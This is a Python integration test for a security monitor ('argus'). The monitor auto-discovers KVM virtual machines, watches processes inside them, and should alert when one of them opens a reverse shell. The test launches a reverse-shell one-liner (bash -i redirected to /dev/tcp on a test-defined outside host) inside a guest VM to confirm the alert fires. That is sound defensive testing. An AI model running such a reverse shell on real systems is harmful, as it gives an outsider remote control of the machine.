"""auto_scan on a KVM host: every VM is watched, as it comes and goes.

argus runs with no systems configured, as service.user nobody (keeping
only CAP_SYS_PTRACE).  VMs started after it, the ordinary way (libvirt's
JSON -object, plain -m; no shared RAM file), are found, named by their
-name, identified by their -uuid, and monitored: a reverse shell inside
one is alerted.  A VM that stops is let go of (one activity, then
silence), and one started later is found too.  Other VMs on this machine
(other tests' guests) are found as well and ignored here.
"""
import os
import time
import uuid

from conftest import Service
from guest import OUTSIDE, OUTSIDE_QUIET, Guest

SLEEP = "500ms"


def named(m, name, activity=None):
    return (m["workload_information"]["unique_identifier"] == name and
            (activity is None or m["activity_data"]["name"] == activity))


def test_vms_found_while_running(tmp_path):
    svc = Service(tmp_path, None, sleep=SLEEP, systems=False, argus="  auto_scan: true\n",
                  service="  user: nobody\n")
    tag = os.getpid()
    a = Guest(f"dA{tag}", mem_mb=384, ram="json", uuid=str(uuid.uuid4()))
    b = Guest(f"dB{tag}", mem_mb=256, ram="anon")
    try:
        assert svc.wait_for(lambda m: m["activity_data"]["name"] ==
                            "Service Initialization Successful", timeout=20)
        a.start()
        ok = svc.wait_for(lambda m: named(m, a.name, "Host Initialization Successful"),
                          timeout=90)
        assert ok, f"VM {a.name} never initialized; see {svc.dir}"
        started = [m for m in svc.messages if named(m, a.name, "Host Initialization Started")]
        desc = started[-1]["activity_data"]["system_activity_details"]["description"]
        assert f"vm:{a._pid()}" in desc and a.uuid in desc, desc
        assert "CAP_SYS_PTRACE only" in svc.stdout()

        # monitored: a process born inside, and a reverse shell
        time.sleep(2 * svc.sleep_s)
        pid = a.spawn("exec sleep 30")
        assert svc.wait_for(lambda m: named(m, a.name, "Process Created") and
                            m["activity_data"]["process_details"]["process_id"] == pid,
                            timeout=10), "a process inside the VM was not seen"
        a.spawn(f"bash -c 'exec bash -i >& /dev/tcp/{OUTSIDE}/{OUTSIDE_QUIET} 0>&1'")
        assert svc.wait_for(lambda m: named(m, a.name, "Reverse Shell Detected"), timeout=15), \
            "the reverse shell inside the VM was not alerted"

        # stopped: told once, then nothing more of it
        a.stop()
        assert svc.wait_for(lambda m: named(m, a.name, "Details Gathering Failed") and
                            "is gone" in m["activity_data"]["system_activity_details"]
                            ["description"], timeout=20), "the VM's end was not told"
        time.sleep(3)
        svc.poll()
        n = sum(named(m, a.name) for m in svc.messages)
        time.sleep(5)
        svc.poll()
        assert sum(named(m, a.name) for m in svc.messages) == n, "activity after the VM stopped"
        assert f"VM {a.name} (pid" in svc.stdout() and "no longer monitored" in svc.stdout()

        # a VM started later is found too
        b.start()
        assert svc.wait_for(lambda m: named(m, b.name, "Host Initialization Successful"),
                            timeout=90), f"VM {b.name} never initialized"
        time.sleep(3 * svc.sleep_s)     # its first scans after, judged too
        svc.poll()
        assert svc.proc.poll() is None, f"argus run exited; see {svc.dir}"
        alerts = [m for m in svc.messages if m["message_type"] == "ALERT" and
                  m["workload_information"]["unique_identifier"] in (a.name, b.name) and
                  m["activity_data"]["name"] not in Service.ROUTINE_ALERTS]
        assert [m["activity_data"]["name"] for m in alerts] == ["Reverse Shell Detected"], \
            [m["activity_data"]["name"] for m in alerts]
    finally:
        a.stop()
        b.stop()
        svc.stop(check_alerts=False)
